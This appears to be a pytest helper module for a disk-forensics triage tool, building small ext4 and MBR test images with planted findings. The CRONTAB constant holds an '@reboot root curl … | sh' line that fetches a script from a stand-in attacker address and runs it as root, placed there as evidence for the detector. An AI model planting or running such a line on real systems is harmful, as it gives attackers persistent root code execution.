"""The command as a user runs it, and small disks to run it on: for the tests of everything a user can meet."""

import gzip
import json
import os
import shutil
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

COMMAND = (sys.executable, "-m", "volforensic")
MINUTES = 5 * 60
SECTOR = 512
CRONTAB = "@reboot root curl -s http://203.0.113.7/straße.sh | sh\n"
AUTH_LOG = "Nov 20 07:00:01 host sshd[1]: Accepted password for root from 192.0.2.1 port 22 ssh2\n"


def run(*arguments: str | Path, **options: Any) -> subprocess.CompletedProcess[str]:
    """Run volforensic with these arguments; ``options`` are those of ``subprocess.run``."""
    keywords: dict[str, Any] = {"capture_output": True, "text": True, "timeout": MINUTES, "check": False, **options}
    ended: subprocess.CompletedProcess[str] = subprocess.run([*COMMAND, *map(str, arguments)], **keywords)  # noqa: PLW1510 - among the keywords
    return ended


def triage(source: Path, case: Path, *arguments: str, **options: Any) -> subprocess.CompletedProcess[str]:
    """Triage one source."""
    return run("triage", source, "--case", case, *arguments, **options)


def environment(**changes: str) -> dict[str, str]:
    """Return this environment with changes, without what decides about colours and locales."""
    deciding = ("NO_COLOR", "FORCE_COLOR", "TTY_COMPATIBLE", "COLORTERM", "LC_ALL", "LC_CTYPE", "LANG")
    return {name: value for name, value in os.environ.items() if name not in deciding} | changes


def is_intact(case: Path) -> bool:
    """Return whether ``volforensic verify`` finds the case as it was written."""
    ended = run("verify", case)
    assert ended.returncode in (0, 4), ended.stderr
    return ended.returncode == 0


def server_disk(folder: Path, name: str = "disk.raw", *, damaged: bool = False) -> Path:
    """Build a disk of 8 MiB with a finding in its crontab and one in its log; ``damaged``: and with a torn old log."""
    mke2fs = shutil.which("mke2fs", path=f"{os.environ['PATH']}:/usr/sbin:/sbin")
    if mke2fs is None:
        pytest.skip("mke2fs is not installed")
    tree = folder / "tree"
    files = {
        "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n",
        "etc/cron.d/update": CRONTAB.encode(),
        "var/log/auth.log": AUTH_LOG.encode(),
    }
    if damaged:
        files["var/log/auth.log.1.gz"] = gzip.compress(os.urandom(9000))[:-100]
    for path, content in files.items():
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(content)
    disk = folder / name
    with disk.open("wb") as file:
        file.truncate(8 << 20)
    subprocess.run([mke2fs, "-q", "-t", "ext4", "-d", tree, disk], check=True, capture_output=True)
    shutil.rmtree(tree)
    return disk


def partition_disk(path: Path, content: bytes) -> Path:
    """Write a disk of 4 MiB with one MBR partition that begins with ``content``."""
    entry = struct.pack("<B3xB3xII", 0, 0x83, 2048, (3 << 20) // SECTOR)
    with path.open("wb") as file:
        file.write(b"\0" * 446 + entry + b"\0" * 48 + b"\x55\xaa")
        file.seek(2048 * SECTOR)
        file.write(content)
        file.truncate(4 << 20)
    return path


def canonical_files(case: Path) -> dict[str, bytes]:
    """Return what two runs on the same evidence must write alike: everything below evidence/."""
    root = case / "evidence"
    return {str(path.relative_to(root)): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def json_lines(text: str) -> list[dict[str, Any]]:
    """Return one object a line."""
    return [json.loads(line) for line in text.splitlines()]
